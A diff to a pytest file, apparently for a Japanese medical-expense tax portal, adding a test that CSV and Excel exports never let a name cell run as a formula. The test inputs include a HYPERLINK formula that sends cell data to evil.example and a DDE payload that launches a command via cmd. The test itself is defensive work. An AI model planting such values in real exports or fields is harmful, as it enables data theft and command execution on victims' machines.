@@ -22,6 +22,7 @@ from signxml import SignatureConfiguration, XMLVerifier
 from signxml.exceptions import InvalidSignature
 
 from kosmo import urls as portal_urls
+from kosmo.spreadsheets import FORMULA_STARTS
 from medical import etax, etax_views
 from medical import urls as medical_urls
 from medical.models import CareType, Claim, EtaxSigningCredential
@@ -845,3 +846,34 @@ def test_demo_credential_is_created_once_and_signs_verifiable_xml(
     assert etax.ensure_demo_credential(union).pk == created.pk
     assert etax.check_credential(created.private_key_pem, created.certificate_pem).key_bits == 2048
     _verify(member_client.get(XML).content, created.certificate_pem)
+
+
+@pytest.mark.parametrize(
+    "typed",
+    [
+        '=HYPERLINK("https://evil.example/?d="&A1,"詳細")',
+        "+1+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "-2+3",
+        "\tX",
+        "\rX",
+    ],
+)
+def test_csv_and_form_cells_never_run_as_a_formula_in_excel(member_client, insured, typed):
+    # Names come from the union's claim data and person records; the form writes them
+    # full-width (＝, ＋, －, ＠) and on one line, so no cell opens with an ASCII formula sign.
+    person = insured.person
+    person.family_name = typed
+    person.save()
+    _claim(person, 1, typed, CareType.OUTPATIENT, 800)
+
+    [_header, row] = _csv_rows(member_client.get(CSV).content)
+    sheet = openpyxl.load_workbook(io.BytesIO(member_client.get(XLSX).content))[
+        "医療費集計フォーム"
+    ]
+
+    assert not any(cell.startswith(FORMULA_STARTS) for cell in row)
+    assert row[1] == etax.form_provider_name(etax.xml_text(typed))
+    for cell in (sheet["B9"], sheet["C9"]):
+        assert cell.data_type == "s" and not cell.value.startswith(FORMULA_STARTS)
+    assert (sheet["B9"].value, sheet["C9"].value) == (row[0], row[1])
